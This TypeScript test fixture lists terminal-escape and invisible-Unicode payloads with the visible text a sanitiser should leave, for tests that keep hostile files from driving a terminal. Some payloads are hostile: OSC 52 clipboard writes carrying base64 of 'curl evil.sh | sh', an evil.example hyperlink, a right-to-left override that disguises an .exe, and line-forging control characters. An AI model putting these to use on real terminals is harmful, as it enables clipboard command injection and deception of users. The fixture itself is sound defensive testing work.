/** Text a hostile file can carry, for the tests that make sure none of it drives a terminal. */
export const ESC = '\u001b';
export const BEL = '\u0007';

/** What a hostile file can carry, each with what a reader should still see of the text around it. */
export const PAYLOADS: [name: string, text: string, shown: string][] = [
  ['OSC 52 (sets the clipboard)', `copy${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}this`, 'copythis'],
  ['OSC 52 ended by ST', `copy${ESC}]52;c;Y3VybA==${ESC}\\this`, 'copythis'],
  ['OSC 0 (sets the window title)', `title${ESC}]0;pwned${BEL}here`, 'titlehere'],
  ['OSC 8 (a hyperlink)', `${ESC}]8;;https://evil.example${BEL}click${ESC}]8;;${BEL} me`, 'click me'],
  ['CSI 2J (clears the screen)', `clear${ESC}[2J${ESC}[Hscreen`, 'clearscreen'],
  ['SGR (colour)', `${ESC}[31mred${ESC}[0m text`, 'red text'],
  ['8-bit CSI', 'eight\u009b2Jbit', 'eightbit'],
  ['8-bit OSC', 'eight\u009d0;title\u009cbit', 'eightbit'],
  ['DCS', `d${ESC}P1$r0m${ESC}\\cs`, 'dcs'],
  ['an unterminated OSC', `start${ESC}]52;c;AAAA`, 'start'],
  ['a lone ESC', `lone${ESC}`, 'lone'],
  ['CR overwrite', 'Balance 90\rBalance 10', 'Balance 90 Balance 10'],
  ['a newline that forges a line', 'name\nwho-failed-whom: all good', 'name who-failed-whom: all good'],
  ['U+202E (right-to-left override)', 'invoice\u202Egpj.exe', 'invoicegpj.exe'],
  ['bidi isolates', 'a\u2066b\u2067c\u2068d\u2069e', 'abcde'],
  ['LRM, RLM, ALM', 'a\u200Eb\u200Fc\u061Cd', 'abcd'],
  ['zero-width space, joiners', 'z\u200Bw\u200Cs\u200Dp', 'zwsp'],
  ['word joiner, BOM', 'w\u2060j\uFEFF', 'wj'],
  ['line and paragraph separators', 'one\u2028two\u2029three', 'one two three'],
  ['NEL', 'one\u0085two', 'one two'],
  ['tag characters (hidden ASCII)', 'see\u{E0041}\u{E0042}this', 'seethis'],
  ['BEL, BS, DEL', `b${BEL}e\bl\u007Fl`, 'bell'],
  ['a tab', 'a\tb', 'a b'],
];

/** Every trick at once, after a word that must still be shown: for a field that a test follows to the screen. */
export function hostile(word: string): string {
  return (
    `${word}${ESC}]52;c;Y3VybCBldmlsLnNofHNo${BEL}${ESC}]0;pwned${BEL}${ESC}]8;;https://evil.example${BEL}link` +
    `${ESC}]8;;${BEL}${ESC}[2J${ESC}[H\rFORGED \u202Edesrever\u200B\u2066\u2028\u009b2J\u{E0041}` +
    ' @dana #12 acme/crm#7 GH-3 &#64;x'
  );
}
